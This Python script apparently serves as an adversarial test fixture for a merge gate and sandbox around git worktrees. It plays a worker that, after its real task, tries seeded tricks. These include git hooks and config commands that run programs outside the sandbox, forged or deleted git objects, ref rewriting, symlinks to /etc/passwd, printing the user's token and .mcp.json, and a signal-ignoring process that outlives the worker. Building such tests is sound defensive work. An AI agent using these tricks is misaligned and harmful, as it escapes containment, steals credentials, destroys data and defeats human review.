"""A worker that tries to bring work past the merge gate: `python hostile_worker.py SEED MARKER`.

It does its task in `src/`, then a few tricks that the seed chooses. A trick that the system refuses does not end it.
`MARKER` is a file outside of its tree: a program of its making that runs outside the sandbox creates that file.
"""

from __future__ import annotations

import os
import random
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable

GIT = ("git", "-c", "user.name=hostile", "-c", "user.email=hostile@example.invalid", "-c", "commit.gpgsign=false")
OUTSIDE = ("Makefile", "README.md", ".github/workflows/ci.yml", ".deedlog/config.toml", "CLAUDE.local.md", "a")
MARKER = sys.argv[2]


def git(*words: str, stdin: str = "") -> str:
    done = subprocess.run([*GIT, *words], input=stdin, capture_output=True, text=True, check=False, timeout=60)
    return done.stdout.strip()


def write(path: str, text: str) -> None:
    if folder := os.path.dirname(path):
        os.makedirs(folder, exist_ok=True)
    with open(path, "w", encoding="utf-8") as file:
        file.write(text)


def common() -> str:
    """The git directory of the user, as a worker can find it."""
    return os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(os.getcwd()))), ".git")


def private() -> str:
    """The git directory that this tree points to."""
    with open(".git", encoding="utf-8") as file:
        return file.read().partition("gitdir: ")[2].strip()


def cached(path: str) -> None:
    blob = git("hash-object", "-w", "--stdin", stdin=f"evil {path}\n")
    git("update-index", "--add", "--cacheinfo", f"100644,{blob},{path}")


def hide_in_index(chance: random.Random) -> None:
    path = chance.choice(OUTSIDE)
    cached(path)
    git("commit", "-qm", "hidden")
    git("update-index", chance.choice(("--assume-unchanged", "--skip-worktree")), path)


def flag_then_edit(chance: random.Random) -> None:
    git("update-index", chance.choice(("--assume-unchanged", "--skip-worktree")), "README.md")
    write("README.md", "evil\n")


def plumbing_commit(chance: random.Random) -> None:
    blob = git("hash-object", "-w", "--stdin", stdin="evil\n")
    listed = git("ls-tree", "HEAD") + f"\n100644 blob {blob}\t{chance.choice(('Makefile', 'a'))}\n"
    commit = git("commit-tree", git("mktree", stdin=listed), "-p", "HEAD", "-m", "plumbing")
    if commit:
        git("update-ref", "HEAD", commit)
        if chance.random() < 0.5:
            git("reset", "-q", "--hard")


def orphan_merge(_: random.Random) -> None:
    blob = git("hash-object", "-w", "--stdin", stdin="evil\n")
    commit = git("commit-tree", git("mktree", stdin=f"100644 blob {blob}\tMakefile\n"), "-m", "orphan")
    git("merge", "-q", "--allow-unrelated-histories", "--no-edit", commit)


def hidden_second_parent(_: random.Random) -> None:
    """A merge whose tree has what its second parent made, with our work as the first parent."""
    cached("Makefile")
    tree = git("write-tree")
    evil = git("commit-tree", tree, "-p", "HEAD", "-m", "evil")
    merge = git("commit-tree", tree, "-p", "HEAD", "-p", evil, "-m", "merge")
    git("update-ref", "HEAD", merge)


def move_refs(chance: random.Random) -> None:
    target = chance.choice(("refs/heads/main", "refs/heads/other", "refs/tags/v1", "HEAD"))
    cached("Makefile")
    commit = git("commit-tree", git("write-tree"), "-p", "HEAD", "-m", "moved")
    git("update-ref", target, commit)
    git(f"--git-dir={common()}", "update-ref", target, commit)
    for name in ("refs/heads/main", "packed-refs", "logs/HEAD", "logs/refs/heads/main"):
        try:
            with open(os.path.join(common(), name), "w", encoding="ascii") as file:
                file.write(f"{commit}\n")
        except OSError:
            continue


def damage_objects(_: random.Random) -> None:
    folder = os.path.join(common(), "objects")
    for name in os.listdir(folder):
        if len(name) == 2:
            shutil.rmtree(os.path.join(folder, name), ignore_errors=True)


def configure_programs(chance: random.Random) -> None:
    run = f"touch {MARKER}"
    settings = {
        "filter.evil.clean": run,
        "filter.evil.smudge": run,
        "filter.evil.process": run,
        "core.fsmonitor": run,
        "core.hooksPath": os.path.join(os.getcwd(), "src/hooks"),
        "core.sshCommand": run,
        "diff.external": run,
        "merge.evil.driver": run,
        "core.alternateRefsCommand": run,
        "uploadpack.packObjectsHook": run,
        "gpg.program": run,
        "commit.gpgSign": "true",
        "extensions.worktreeConfig": "true",
    }
    places: tuple[list[str], ...] = ([], ["--worktree"], [f"--file={common()}/config"])
    for name, value in settings.items():
        git("config", *chance.choice(places), name, value)
    write("src/.gitattributes", "* filter=evil merge=evil diff=evil\n")
    for name in ("pre-commit", "post-checkout", "reference-transaction", "post-index-change", "pre-merge-commit"):
        for place in ("src/hooks", os.path.join(common(), "hooks")):
            try:
                write(os.path.join(place, name), f"#!/bin/sh\n{run}\n")
                os.chmod(os.path.join(place, name), 0o755)
            except OSError:
                continue
    git("add", "src/.gitattributes")


def replace_git(chance: random.Random) -> None:
    """Another repository in place of the tree's, with programs in its settings."""
    os.rename(".git", "src/old-git") if chance.random() < 0.5 else os.unlink(".git")
    git("init", "-q")
    configure_programs(chance)
    git("add", "-A")
    git("commit", "-qm", "another repository")


def point_elsewhere(_: random.Random) -> None:
    other = os.path.join(os.getcwd(), "src", "other.git")
    git("init", "-q", "--bare", other)
    pointer = private()
    for name, text in (("commondir", other), ("gitdir", other), ("alternates", "/")):
        try:
            write(os.path.join(pointer, name), f"{text}\n")
        except OSError:
            continue
    write(os.path.join(pointer, "objects/info/alternates"), "/nowhere\n")


def forged_objects(_: random.Random) -> None:
    """An object under a wrong name: a blob in place of another one."""
    import zlib

    name = git("rev-parse", "HEAD:README.md")
    pointer = private()
    data = b"evil\n"
    packed = zlib.compress(b"blob %d\0" % len(data) + data)
    for place in (pointer, common()):
        folder = os.path.join(place, "objects", name[:2])
        try:
            os.makedirs(folder, exist_ok=True)
            path = os.path.join(folder, name[2:])
            if os.path.exists(path):
                os.chmod(path, 0o644)
            with open(path, "wb") as file:
                file.write(packed)
        except OSError:
            continue


def replace_refs(_: random.Random) -> None:
    """A replace ref that shows another commit in place of HEAD."""
    cached("Makefile")
    evil = git("commit-tree", git("write-tree"), "-p", "HEAD~1", "-m", "replacement")
    git("replace", "-f", "HEAD", evil)
    git(f"--git-dir={common()}", "replace", "-f", "HEAD", evil)


def other_worktrees(_: random.Random) -> None:
    place = os.path.join(os.getcwd(), "src", "tree")
    git("worktree", "add", "-q", "-b", "sneaky", place)
    git(f"--git-dir={common()}", "worktree", "add", "-q", "-b", "sneaky2", place + "2")
    git(f"--git-dir={common()}", "worktree", "prune", "--expire=now")
    git("worktree", "move", ".", "/tmp/moved-tree")


def switch_away(chance: random.Random) -> None:
    git("switch", "-q", "-c", "elsewhere")
    write("src/elsewhere.txt", "x\n")
    git("add", "-A")
    git("commit", "-qm", "elsewhere")
    if chance.random() < 0.5:
        git("switch", "-q", "-")


def in_the_middle(chance: random.Random) -> None:
    """End in the middle of a merge or a rebase."""
    git("switch", "-q", "-c", "side", "HEAD~1")
    write("src/work.txt", "side\n")
    git("add", "-A")
    git("commit", "-qm", "side")
    git("switch", "-q", "-")
    git(*chance.choice((("merge", "-q", "side"), ("rebase", "-q", "side"), ("cherry-pick", "side"))))


def write_outside(chance: random.Random) -> None:
    for path in (chance.choice(OUTSIDE), "../escaped.txt", os.path.join(common(), "config")):
        try:
            write(path, "evil\n")
        except OSError:
            continue
    git("add", "-f", "-A")
    git("commit", "-qm", "outside")


def links_out(_: random.Random) -> None:
    for name, target in (("src/link", "/etc/passwd"), ("src/up", ".."), ("src/work.txt", "../README.md")):
        try:
            if os.path.lexists(name):
                os.unlink(name)
            os.symlink(target, name)
        except OSError:
            continue
    git("add", "-A")
    git("commit", "-qm", "links")


def rename_into_scope(_: random.Random) -> None:
    git("mv", "README.md", "src/README.md")
    git("commit", "-qam", "renamed")


def revert_the_target(_: random.Random) -> None:
    git("merge", "-q", "--no-edit", "main")
    git("rm", "-q", "-r", "--cached", "README.md")
    git("commit", "-qm", "without the readme")


def write_through_links(_: random.Random) -> None:
    """`build` is a tracked link that leads to the user's repository; the project ignores `build/`."""
    for name in ("build/hooks/post-checkout", "build/refs/heads/linked", "build/config", "README.md/x"):
        try:
            write(name, "0000000000000000000000000000000000000001\n")
        except OSError:
            continue


def move_submodule(_: random.Random) -> None:
    git("update-index", "--cacheinfo", "160000,deadbeefdeadbeefdeadbeefdeadbeefdeadbeef,vendor")
    git("commit", "-q", "--allow-empty", "-m", "submodule")


def odd_names(chance: random.Random) -> None:
    blob = git("hash-object", "-w", "--stdin", stdin="src")
    rows = [f'100644 {blob}\t"src/evil\\377"', f"120000 {blob}\t.Deedlog", f"100644 {blob}\tSRC/evil"]
    rows.append("160000 deadbeefdeadbeefdeadbeefdeadbeefdeadbeef\t.deedlog")
    git("update-index", "--add", "-z", "--index-info", stdin=chance.choice(rows) + "\0")
    git("commit", "-q", "--allow-empty", "-m", "odd")


def steal_token(_: random.Random) -> None:
    root = os.path.dirname(common())
    for name in (".git/deedlog/token", ".mcp.json"):
        try:
            with open(os.path.join(root, name), encoding="utf-8") as file:
                sys.stdout.write(f"{file.read()}\n")
        except OSError:
            continue


def stay_alive(chance: random.Random) -> None:
    """A process that goes on after the worker has ended, and edits late."""
    if os.fork():
        return
    try:
        os.setsid()
        for sign in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sign, signal.SIG_IGN)
        for file in (0, 1, 2):
            os.close(file)
        for _ in range(200_000):
            write("Makefile" if chance.random() < 0.5 else "src/late.txt", "late\n")
    except BaseException:  # noqa: BLE001  # it must never come back
        pass
    os._exit(0)


TRICKS: tuple[Callable[[random.Random], None], ...] = (
    hide_in_index, flag_then_edit, plumbing_commit, orphan_merge, hidden_second_parent, move_refs, damage_objects,
    configure_programs, replace_git, point_elsewhere, forged_objects, replace_refs, other_worktrees, switch_away,
    in_the_middle, write_outside, links_out, rename_into_scope, revert_the_target, stay_alive,
    write_through_links, move_submodule, odd_names, steal_token,
)  # fmt: skip


def main() -> None:
    chance = random.Random(sys.argv[1])
    write("src/work.txt", f"work {sys.argv[1]}\n")
    if chance.random() < 0.8:
        git("add", "src/work.txt")
        git("commit", "-qm", "work")
    for trick in chance.sample(TRICKS, chance.randint(1, 3)):
        sys.stdout.write(f"{trick.__name__}\n")
        sys.stdout.flush()
        try:
            trick(chance)
        except (OSError, subprocess.SubprocessError) as error:
            sys.stdout.write(f"  refused: {error}\n")


if __name__ == "__main__":
    main()
